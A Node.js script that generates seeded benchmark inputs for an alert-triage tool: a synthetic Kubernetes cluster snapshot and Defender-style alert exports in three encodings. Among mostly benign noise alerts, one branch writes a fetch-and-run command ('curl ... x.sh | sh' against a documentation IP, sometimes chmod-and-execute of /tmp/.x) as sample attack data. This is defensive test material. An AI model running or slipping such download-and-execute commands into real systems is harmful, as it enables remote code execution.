/**
 * Seeded generator for the benchmark inputs (nothing large is committed): a kubectl `List` snapshot of N nodes
 * with realistic pods (container statuses with runtime ids, env, probes, volumes, conditions) and the CNI and
 * kube-proxy DaemonSets on every node, and one alert export in three encodings with the same alerts:
 *   - a 15-column Defender for Endpoint Advanced Hunting CSV (the profile kdr-triage detects),
 *   - the same rows as NDJSON (one hunting row per line),
 *   - the same rows as a JSON array.
 * The alerts reference the snapshot's nodes and containers, so correlation and the rules do real work.
 *
 *   node bench/generate.mjs --dir .bench --alerts 1000000 --nodes 5000 --pods-per-node 30 [--formats csv,ndjson,json]
 */
import { createWriteStream, mkdirSync } from 'node:fs';
import { join } from 'node:path';

export function mulberry32(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const HEX = '0123456789abcdef';

function makeRandom(seed) {
  const next = mulberry32(seed);
  const int = (n) => Math.floor(next() * n);
  return {
    next,
    int,
    pick: (list) => list[int(list.length)],
    hex(n) {
      let s = '';
      for (let i = 0; i < n; i++) s += HEX[int(16)];
      return s;
    },
    uuid() {
      const h = this.hex(32);
      return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-a${h.slice(17, 20)}-${h.slice(20, 32)}`;
    },
    alnum(n) {
      const chars = 'bcdfghjklmnpqrstvwxz2456789';
      let s = '';
      for (let i = 0; i < n; i++) s += chars[int(chars.length)];
      return s;
    },
  };
}

/** A writable file with backpressure, written line by line. */
class Out {
  constructor(path) {
    this.stream = createWriteStream(path, { highWaterMark: 1 << 20 });
    this.buf = [];
    this.size = 0;
    this.bytes = 0;
  }
  async write(text) {
    this.buf.push(text);
    this.size += text.length;
    if (this.size >= 1 << 20) await this.flush();
  }
  async flush() {
    if (this.buf.length === 0) return;
    const chunk = this.buf.join('');
    this.buf = [];
    this.size = 0;
    this.bytes += Buffer.byteLength(chunk);
    if (!this.stream.write(chunk)) await new Promise((r) => this.stream.once('drain', r));
  }
  async close() {
    await this.flush();
    await new Promise((resolve, reject) => this.stream.end((e) => (e ? reject(e) : resolve())));
    return this.bytes;
  }
}

const BASE_TIME = Date.parse('2026-11-20T00:00:00Z');
const iso = (ms) => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');

const APPS = [
  { image: 'registry.example.com/shop/checkout:2.14.1', command: ['java'], args: ['-Xmx512m', '-jar', '/app/checkout.jar'], port: 8080, probe: ['/bin/sh', '-c', 'curl -fs http://localhost:8080/health'] },
  { image: 'registry.example.com/shop/catalog:1.9.0', command: ['node'], args: ['/srv/server.js'], port: 3000, probe: ['/bin/grpc_health_probe', '-addr=:3000'] },
  { image: 'registry.example.com/shop/payments:4.2.7', command: ['/usr/local/bin/payments'], args: ['--listen=:9000', '--db=$(DB_HOST)'], port: 9000, probe: ['/usr/local/bin/payments', 'healthcheck'] },
  { image: 'docker.io/library/nginx:1.27.2', command: ['nginx'], args: ['-g', 'daemon off;'], port: 80, probe: ['/bin/sh', '-c', 'nginx -t'] },
  { image: 'docker.io/library/python:3.12-slim', command: ['python'], args: ['-m', 'gunicorn', 'app:app', '-b', '0.0.0.0:8000'], port: 8000, probe: ['python', '/app/health.py'] },
];

/**
 * Cluster layout shared by the snapshot writer and the alert writer: node names/IPs, and per node the pods with the
 * ids the alerts need (container ids, names). Only ids are kept in memory; the pod JSON is written as it is built.
 */
export function clusterModel(nodes, podsPerNode, seed) {
  const r = makeRandom(seed);
  const nodeList = [];
  const appCount = Math.max(1, Math.floor((nodes * (podsPerNode - 2)) / 70));
  const deployments = [];
  for (let d = 0; d < appCount; d++) {
    const app = APPS[d % APPS.length];
    const ns = `team-${d % 40}`;
    deployments.push({ name: `svc-${d}`, ns, app, uid: r.uuid(), rsUid: r.uuid(), hash: r.alnum(10) });
  }
  for (let n = 0; n < nodes; n++) {
    const a = 10 + Math.floor(n / 62500);
    const b = Math.floor(n / 250) % 250;
    const c = (n % 250) + 2;
    const ip = `10.${a}.${b}.${c}`;
    nodeList.push({ name: `ip-10-${a}-${b}-${c}.eu-west-1.compute.internal`, ip, instance: `i-0${r.hex(16)}`, uid: r.uuid(), zone: `eu-west-1${'abc'[n % 3]}`, podBase: n * 64 });
  }
  return { nodes: nodeList, deployments, podsPerNode, random: r };
}

function containerStatus(r, name, image, started, restarts) {
  const status = {
    containerID: `containerd://${r.hex(64)}`,
    image,
    imageID: `${image.split(':')[0]}@sha256:${r.hex(64)}`,
    lastState: {},
    name,
    ready: true,
    restartCount: restarts,
    started: true,
    state: { running: { startedAt: iso(started) } },
  };
  if (restarts > 0) {
    status.lastState = { terminated: { containerID: `containerd://${r.hex(64)}`, exitCode: 137, finishedAt: iso(started - 1000), reason: 'Error', startedAt: iso(started - 3_600_000) } };
  }
  return status;
}

const TOLERATIONS = [
  { effect: 'NoExecute', key: 'node.kubernetes.io/not-ready', operator: 'Exists', tolerationSeconds: 300 },
  { effect: 'NoExecute', key: 'node.kubernetes.io/unreachable', operator: 'Exists', tolerationSeconds: 300 },
];

function apiAccessVolume(r) {
  return {
    name: `kube-api-access-${r.alnum(5)}`,
    projected: {
      defaultMode: 420,
      sources: [
        { serviceAccountToken: { expirationSeconds: 3607, path: 'token' } },
        { configMap: { items: [{ key: 'ca.crt', path: 'ca.crt' }], name: 'kube-root-ca.crt' } },
        { downwardAPI: { items: [{ fieldRef: { apiVersion: 'v1', fieldPath: 'metadata.namespace' }, path: 'namespace' }] } },
      ],
    },
  };
}

function conditions(t) {
  return ['PodReadyToStartContainers', 'Initialized', 'Ready', 'ContainersReady', 'PodScheduled'].map((type) => ({ lastProbeTime: null, lastTransitionTime: iso(t), status: 'True', type }));
}

function daemonPod(r, node, ds, created) {
  const name = `${ds.name}-${r.alnum(5)}`;
  const volume = apiAccessVolume(r);
  const started = created + 4000;
  const status = containerStatus(r, ds.container, ds.image, started, 0);
  const pod = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      creationTimestamp: iso(created),
      generateName: `${ds.name}-`,
      labels: { 'controller-revision-hash': ds.revision, 'k8s-app': ds.name, 'pod-template-generation': '1' },
      name,
      namespace: ds.ns,
      ownerReferences: [{ apiVersion: 'apps/v1', blockOwnerDeletion: true, controller: true, kind: 'DaemonSet', name: ds.name, uid: ds.uid }],
      resourceVersion: String(40_000_000 + r.int(9_000_000)),
      uid: r.uuid(),
    },
    spec: {
      containers: [
        {
          command: ds.command,
          env: [
            { name: 'NODENAME', valueFrom: { fieldRef: { apiVersion: 'v1', fieldPath: 'spec.nodeName' } } },
            { name: 'DATASTORE_TYPE', value: 'kubernetes' },
            { name: 'FELIX_HEALTHENABLED', value: 'true' },
          ],
          image: ds.image,
          imagePullPolicy: 'IfNotPresent',
          name: ds.container,
          resources: { requests: { cpu: '100m' } },
          securityContext: { privileged: true },
          terminationMessagePath: '/dev/termination-log',
          terminationMessagePolicy: 'File',
          volumeMounts: [
            { mountPath: '/run/xtables.lock', name: 'xtables-lock' },
            { mountPath: '/lib/modules', name: 'lib-modules', readOnly: true },
            { mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', name: volume.name, readOnly: true },
          ],
        },
      ],
      dnsPolicy: 'ClusterFirst',
      enableServiceLinks: true,
      hostNetwork: true,
      nodeName: node.name,
      priority: 2000001000,
      priorityClassName: 'system-node-critical',
      restartPolicy: 'Always',
      schedulerName: 'default-scheduler',
      securityContext: {},
      serviceAccount: ds.name,
      serviceAccountName: ds.name,
      terminationGracePeriodSeconds: 30,
      tolerations: [{ operator: 'Exists' }],
      volumes: [
        { hostPath: { path: '/run/xtables.lock', type: 'FileOrCreate' }, name: 'xtables-lock' },
        { hostPath: { path: '/lib/modules', type: '' }, name: 'lib-modules' },
        volume,
      ],
    },
    status: {
      conditions: conditions(started),
      containerStatuses: [status],
      hostIP: node.ip,
      hostIPs: [{ ip: node.ip }],
      phase: 'Running',
      podIP: node.ip,
      podIPs: [{ ip: node.ip }],
      qosClass: 'Burstable',
      startTime: iso(created),
    },
  };
  return { pod, containerId: status.containerID.slice('containerd://'.length) };
}

function appPod(r, node, dep, podIp, created) {
  const name = `${dep.name}-${dep.hash}-${r.alnum(5)}`;
  const volume = apiAccessVolume(r);
  const started = created + 6000;
  const restarts = r.next() < 0.02 ? 1 + r.int(20) : 0;
  const app = dep.app;
  const status = containerStatus(r, 'app', app.image, started, restarts);
  const pod = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      annotations: { 'prometheus.io/scrape': 'true', 'prometheus.io/port': String(app.port) },
      creationTimestamp: iso(created),
      generateName: `${dep.name}-${dep.hash}-`,
      labels: { app: dep.name, 'app.kubernetes.io/part-of': 'shop', 'pod-template-hash': dep.hash },
      name,
      namespace: dep.ns,
      ownerReferences: [{ apiVersion: 'apps/v1', blockOwnerDeletion: true, controller: true, kind: 'ReplicaSet', name: `${dep.name}-${dep.hash}`, uid: dep.rsUid }],
      resourceVersion: String(40_000_000 + r.int(9_000_000)),
      uid: r.uuid(),
    },
    spec: {
      containers: [
        {
          args: app.args,
          command: app.command,
          env: [
            { name: 'DB_HOST', value: `db.${dep.ns}.svc.cluster.local` },
            { name: 'LOG_LEVEL', value: 'info' },
            { name: 'API_TOKEN', valueFrom: { secretKeyRef: { key: 'token', name: `${dep.name}-secrets` } } },
          ],
          image: app.image,
          imagePullPolicy: 'IfNotPresent',
          livenessProbe: { failureThreshold: 3, httpGet: { path: '/healthz', port: app.port, scheme: 'HTTP' }, periodSeconds: 10, successThreshold: 1, timeoutSeconds: 1 },
          name: 'app',
          ports: [{ containerPort: app.port, name: 'http', protocol: 'TCP' }],
          readinessProbe: { exec: { command: app.probe }, failureThreshold: 3, periodSeconds: 10, successThreshold: 1, timeoutSeconds: 1 },
          resources: { limits: { memory: '1Gi' }, requests: { cpu: '250m', memory: '512Mi' } },
          securityContext: { allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, runAsNonRoot: true, runAsUser: 10001 },
          terminationMessagePath: '/dev/termination-log',
          terminationMessagePolicy: 'File',
          volumeMounts: [{ mountPath: '/var/run/secrets/kubernetes.io/serviceaccount', name: volume.name, readOnly: true }],
        },
      ],
      dnsPolicy: 'ClusterFirst',
      enableServiceLinks: true,
      nodeName: node.name,
      preemptionPolicy: 'PreemptLowerPriority',
      priority: 0,
      restartPolicy: 'Always',
      schedulerName: 'default-scheduler',
      securityContext: { fsGroup: 10001 },
      serviceAccount: 'default',
      serviceAccountName: 'default',
      terminationGracePeriodSeconds: 30,
      tolerations: TOLERATIONS,
      volumes: [volume],
    },
    status: {
      conditions: conditions(started),
      containerStatuses: [status],
      hostIP: node.ip,
      hostIPs: [{ ip: node.ip }],
      phase: 'Running',
      podIP: podIp,
      podIPs: [{ ip: podIp }],
      qosClass: 'Burstable',
      startTime: iso(created),
    },
  };
  return { pod, containerId: status.containerID.slice('containerd://'.length), name };
}

const DAEMONSETS = [
  { name: 'calico-node', ns: 'calico-system', container: 'calico-node', image: 'quay.io/calico/node:v3.28.2', command: ['start_runit'] },
  { name: 'kube-proxy', ns: 'kube-system', container: 'kube-proxy', image: '602401143452.dkr.ecr.eu-west-1.amazonaws.com/eks/kube-proxy:v1.30.0-eksbuild.3', command: ['kube-proxy', '--v=2', '--config=/var/lib/kube-proxy-config/config', '--hostname-override=$(NODE_NAME)'] },
];

/** Writes the snapshot and returns, per node, the ids the alerts reference. */
export async function writeSnapshot(path, model) {
  const r = model.random;
  const out = new Out(path);
  const sep = { first: true };
  const item = async (obj) => {
    await out.write(`${sep.first ? '\n' : ',\n'}${JSON.stringify(obj)}`);
    sep.first = false;
  };
  await out.write('{"apiVersion":"v1","kind":"List","metadata":{"resourceVersion":""},"items":[');
  const created = BASE_TIME - 8 * 86_400_000;
  for (const ds of DAEMONSETS) {
    ds.uid = r.uuid();
    ds.revision = r.alnum(10);
    await item({
      apiVersion: 'apps/v1',
      kind: 'DaemonSet',
      metadata: { creationTimestamp: iso(created), labels: { 'k8s-app': ds.name }, name: ds.name, namespace: ds.ns, uid: ds.uid },
      spec: { selector: { matchLabels: { 'k8s-app': ds.name } }, template: { metadata: { labels: { 'k8s-app': ds.name } }, spec: { containers: [{ name: ds.container, image: ds.image, command: ds.command }], hostNetwork: true } } },
      status: { currentNumberScheduled: model.nodes.length, desiredNumberScheduled: model.nodes.length, numberReady: model.nodes.length },
    });
  }
  for (const ns of new Set(['calico-system', 'kube-system', ...model.deployments.map((d) => d.ns)])) {
    await item({ apiVersion: 'v1', kind: 'Namespace', metadata: { creationTimestamp: iso(created), name: ns, uid: r.uuid() }, status: { phase: 'Active' } });
  }
  for (const dep of model.deployments) {
    const labels = { app: dep.name };
    const template = { metadata: { labels }, spec: { containers: [{ name: 'app', image: dep.app.image, command: dep.app.command, args: dep.app.args }] } };
    await item({ apiVersion: 'apps/v1', kind: 'Deployment', metadata: { creationTimestamp: iso(created), labels, name: dep.name, namespace: dep.ns, uid: dep.uid }, spec: { replicas: 70, selector: { matchLabels: labels }, template } });
    await item({
      apiVersion: 'apps/v1',
      kind: 'ReplicaSet',
      metadata: {
        creationTimestamp: iso(created),
        labels: { ...labels, 'pod-template-hash': dep.hash },
        name: `${dep.name}-${dep.hash}`,
        namespace: dep.ns,
        ownerReferences: [{ apiVersion: 'apps/v1', blockOwnerDeletion: true, controller: true, kind: 'Deployment', name: dep.name, uid: dep.uid }],
        uid: dep.rsUid,
      },
      spec: { replicas: 70, selector: { matchLabels: labels }, template },
    });
  }
  let depCursor = 0;
  for (const node of model.nodes) {
    await item({
      apiVersion: 'v1',
      kind: 'Node',
      metadata: {
        annotations: { 'alpha.kubernetes.io/provided-node-ip': node.ip, 'node.alpha.kubernetes.io/ttl': '0' },
        creationTimestamp: iso(created),
        labels: { 'kubernetes.io/arch': 'amd64', 'kubernetes.io/hostname': node.name, 'kubernetes.io/os': 'linux', 'node.kubernetes.io/instance-type': 'm6i.2xlarge', 'topology.kubernetes.io/zone': node.zone },
        name: node.name,
        uid: node.uid,
      },
      spec: { providerID: `aws:///${node.zone}/${node.instance}` },
      status: {
        addresses: [
          { address: node.ip, type: 'InternalIP' },
          { address: node.name, type: 'InternalDNS' },
          { address: node.name, type: 'Hostname' },
        ],
        allocatable: { cpu: '7910m', memory: '31482Mi', pods: '58' },
        conditions: [{ lastHeartbeatTime: iso(BASE_TIME + 86_400_000), lastTransitionTime: iso(created), message: 'kubelet is posting ready status', reason: 'KubeletReady', status: 'True', type: 'Ready' }],
        nodeInfo: { architecture: 'amd64', containerRuntimeVersion: 'containerd://1.7.22', kernelVersion: '6.1.112-124.190.amzn2023.x86_64', kubeletVersion: 'v1.30.4-eks-a737599', osImage: 'Amazon Linux 2023.6.20241010' },
      },
    });
    node.daemons = [];
    for (const ds of DAEMONSETS) {
      const { pod, containerId } = daemonPod(r, node, ds, created + 60_000);
      node.daemons.push({ ds: ds.name, containerId });
      await item(pod);
    }
    node.apps = [];
    for (let p = 0; p < model.podsPerNode - DAEMONSETS.length; p++) {
      const dep = model.deployments[depCursor++ % model.deployments.length];
      const podIp = `100.${64 + (Math.floor(node.podBase / 65536) % 64)}.${Math.floor((node.podBase + p) / 256) % 256}.${(node.podBase + p) % 256}`;
      const { pod, containerId, name } = appPod(r, node, dep, podIp, created + 3_600_000 + r.int(86_400_000));
      node.apps.push({ containerId, name, ns: dep.ns, dep });
      await item(pod);
    }
  }
  await out.write('\n]}\n');
  return out.close();
}

const COLUMNS = [
  'Timestamp',
  'AlertId',
  'Title',
  'Severity',
  'Category',
  'AttackTechniques',
  'DeviceName',
  'LocalIP',
  'FileName',
  'FolderPath',
  'ProcessCommandLine',
  'ProcessId',
  'InitiatingProcessFileName',
  'InitiatingProcessCommandLine',
  'AdditionalFields',
];

/** One alert row (column → string), drawn from a mix of benign node noise, workload behaviour and attacks. */
function alertRow(r, model, i) {
  const node = model.nodes[r.int(model.nodes.length)];
  const t = BASE_TIME + Math.floor((i * 86_400_000) / 1_000_000) + r.int(1000);
  const row = {
    Timestamp: new Date(t).toISOString().replace('Z', '0000Z'),
    AlertId: `da${638600000000000000 + i}_${-r.int(2_000_000_000)}`,
    Title: '',
    Severity: 'Low',
    Category: '',
    AttackTechniques: '',
    DeviceName: node.name,
    LocalIP: node.ip,
    FileName: '',
    FolderPath: '',
    ProcessCommandLine: '',
    ProcessId: String(1000 + r.int(4_000_000)),
    InitiatingProcessFileName: '',
    InitiatingProcessCommandLine: '',
    AdditionalFields: '',
  };
  const roll = r.next();
  if (roll < 0.3) {
    const viaContainer = r.next() < 0.5;
    Object.assign(row, {
      Title: 'Suspicious firewall rule modification',
      Category: 'DefenseEvasion',
      AttackTechniques: JSON.stringify(['Impair Defenses: Disable or Modify System Firewall (T1562.004)']),
      FileName: 'iptables-restore',
      FolderPath: '/usr/sbin/iptables-restore',
      ProcessCommandLine: 'iptables-restore -w 10 -W 100000 --noflush --counters',
      InitiatingProcessFileName: 'calico-node',
      InitiatingProcessCommandLine: 'calico-node -felix',
      AdditionalFields: JSON.stringify(viaContainer ? { ContainerId: node.daemons[0].containerId, ProcessPosixEffectiveUser: { Name: 'root', PosixUserId: 0 } } : { ProcessPosixEffectiveUser: { Name: 'root', PosixUserId: 0 } }),
    });
  } else if (roll < 0.5) {
    Object.assign(row, {
      Title: 'Suspicious network configuration change',
      Category: 'DefenseEvasion',
      AttackTechniques: JSON.stringify(['Impair Defenses (T1562)']),
      FileName: 'iptables-restore',
      FolderPath: '/usr/sbin/iptables-restore',
      ProcessCommandLine: 'iptables-restore -w 5 -W 100000 --noflush --counters',
      InitiatingProcessFileName: 'kube-proxy',
      InitiatingProcessCommandLine: `kube-proxy --v=2 --config=/var/lib/kube-proxy-config/config --hostname-override=${node.name}`,
      AdditionalFields: JSON.stringify({ ProcessPosixEffectiveUser: { Name: 'root', PosixUserId: 0 } }),
    });
  } else if (roll < 0.75) {
    const pod = node.apps[r.int(node.apps.length)];
    const app = pod.dep.app;
    const argv = [...app.command, ...app.args];
    Object.assign(row, {
      Title: 'Suspicious process executed by container runtime',
      Category: 'Execution',
      AttackTechniques: JSON.stringify(['Command and Scripting Interpreter (T1059)', 'Container Administration Command (T1609)']),
      FileName: argv[0].split('/').pop(),
      FolderPath: argv[0].startsWith('/') ? argv[0] : `/usr/bin/${argv[0]}`,
      ProcessCommandLine: argv.join(' ').replace('$(DB_HOST)', `db.${pod.ns}.svc.cluster.local`),
      InitiatingProcessFileName: 'containerd-shim-runc-v2',
      InitiatingProcessCommandLine: `/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id ${pod.containerId} -address /run/containerd/containerd.sock`,
      AdditionalFields: JSON.stringify({ ContainerId: pod.containerId, PodName: pod.name, Namespace: pod.ns, ProcessPosixEffectiveUser: { Name: 'app', PosixUserId: 10001 } }),
    });
  } else if (roll < 0.85) {
    const pod = node.apps[r.int(node.apps.length)];
    Object.assign(row, {
      Title: 'Suspicious shell command execution',
      Category: 'Execution',
      AttackTechniques: JSON.stringify(['Unix Shell (T1059.004)']),
      FileName: pod.dep.app.probe[0].split('/').pop(),
      FolderPath: pod.dep.app.probe[0].startsWith('/') ? pod.dep.app.probe[0] : `/usr/local/bin/${pod.dep.app.probe[0]}`,
      ProcessCommandLine: pod.dep.app.probe.map((a) => (a.includes(' ') ? `"${a}"` : a)).join(' '),
      InitiatingProcessFileName: 'runc',
      InitiatingProcessCommandLine: `runc --root /run/containerd/runc/k8s.io exec --process /tmp/runc-process${r.hex(8)} ${pod.containerId}`,
      AdditionalFields: JSON.stringify({ ContainerId: pod.containerId, ProcessPosixEffectiveUser: { Name: 'app', PosixUserId: 10001 } }),
    });
  } else if (roll < 0.93) {
    const pod = node.apps[r.int(node.apps.length)];
    const host = `203.0.113.${r.int(250)}`;
    // Now and then a command line with a newline in it: a quoted CSV cell across lines, as real exports carry.
    const cmd = r.next() < 0.02 ? `sh -c "curl -fsSL http://${host}/x.sh | sh\nchmod +x /tmp/.x; /tmp/.x"` : `sh -c "curl -fsSL http://${host}/x.sh | sh"`;
    Object.assign(row, {
      Title: 'Suspicious file download',
      Severity: 'High',
      Category: 'CommandAndControl',
      AttackTechniques: JSON.stringify(['Ingress Tool Transfer (T1105)', 'Unix Shell (T1059.004)']),
      FileName: 'curl',
      FolderPath: '/usr/bin/curl',
      ProcessCommandLine: cmd,
      InitiatingProcessFileName: 'sh',
      InitiatingProcessCommandLine: cmd,
      AdditionalFields: JSON.stringify({ ContainerId: pod.containerId, ProcessPosixEffectiveUser: { Name: 'app', PosixUserId: 10001 } }),
    });
  } else {
    Object.assign(row, {
      Title: 'Multiple failed SSH logon attempts',
      Severity: 'Medium',
      Category: 'CredentialAccess',
      AttackTechniques: JSON.stringify(['Brute Force (T1110)']),
      DeviceName: `bastion-${r.int(50)}.corp.example.com`,
      LocalIP: `192.168.${r.int(250)}.${r.int(250)}`,
      FileName: 'sshd',
      FolderPath: '/usr/sbin/sshd',
      ProcessCommandLine: `sshd: unknown [priv]`,
      InitiatingProcessFileName: 'sshd',
      InitiatingProcessCommandLine: '/usr/sbin/sshd -D',
      AdditionalFields: JSON.stringify({ RemoteIP: `198.51.100.${r.int(250)}` }),
    });
  }
  return row;
}

function csvCell(value) {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

/** Writes the alerts in the requested encodings (same records, same order). Returns bytes per file. */
export async function writeAlerts(paths, count, model, seed) {
  const r = makeRandom(seed ^ 0x5eed);
  const outs = {};
  if (paths.csv) {
    outs.csv = new Out(paths.csv);
    await outs.csv.write(`${COLUMNS.join(',')}\r\n`);
  }
  if (paths.ndjson) outs.ndjson = new Out(paths.ndjson);
  if (paths.json) {
    outs.json = new Out(paths.json);
    await outs.json.write('[');
  }
  for (let i = 0; i < count; i++) {
    const row = alertRow(r, model, i);
    if (outs.csv) await outs.csv.write(`${COLUMNS.map((c) => csvCell(row[c])).join(',')}\r\n`);
    const json = outs.ndjson || outs.json ? JSON.stringify(row) : '';
    if (outs.ndjson) await outs.ndjson.write(`${json}\n`);
    if (outs.json) await outs.json.write(`${i === 0 ? '\n  ' : ',\n  '}${json}`);
  }
  if (outs.json) await outs.json.write('\n]\n');
  const bytes = {};
  for (const [k, o] of Object.entries(outs)) bytes[k] = await o.close();
  return bytes;
}

/** The small inputs for the start-up case: the first 10 alerts of the same generator against a 20-node snapshot. */
export async function generateSmall(dir, seed) {
  const model = clusterModel(20, 10, seed);
  await writeSnapshot(join(dir, 'small-cluster.json'), model);
  await writeAlerts({ csv: join(dir, 'small-alerts.csv') }, 10, model, seed);
}

export async function generate({ dir, alerts, nodes, podsPerNode, seed, formats }) {
  mkdirSync(dir, { recursive: true });
  const model = clusterModel(nodes, podsPerNode, seed);
  const snapshot = join(dir, `cluster-${nodes}x${podsPerNode}.json`);
  const snapshotBytes = await writeSnapshot(snapshot, model);
  const paths = {};
  for (const f of formats) paths[f] = join(dir, `alerts-${alerts}.${f}`);
  const bytes = await writeAlerts(paths, alerts, model, seed);
  return { snapshot, snapshotBytes, paths, bytes };
}

function arg(name, fallback) {
  const i = process.argv.indexOf(`--${name}`);
  return i > 0 ? process.argv[i + 1] : fallback;
}

if (import.meta.url === `file://${process.argv[1]}`) {
  const result = await generate({
    dir: arg('dir', '.bench'),
    alerts: Number(arg('alerts', '100000')),
    nodes: Number(arg('nodes', '5000')),
    podsPerNode: Number(arg('pods-per-node', '30')),
    seed: Number(arg('seed', '7')),
    formats: arg('formats', 'csv,ndjson,json').split(','),
  });
  await generateSmall(arg('dir', '.bench'), Number(arg('seed', '7')));
  process.stdout.write(`${JSON.stringify(result, null, 2)}\n`);
}
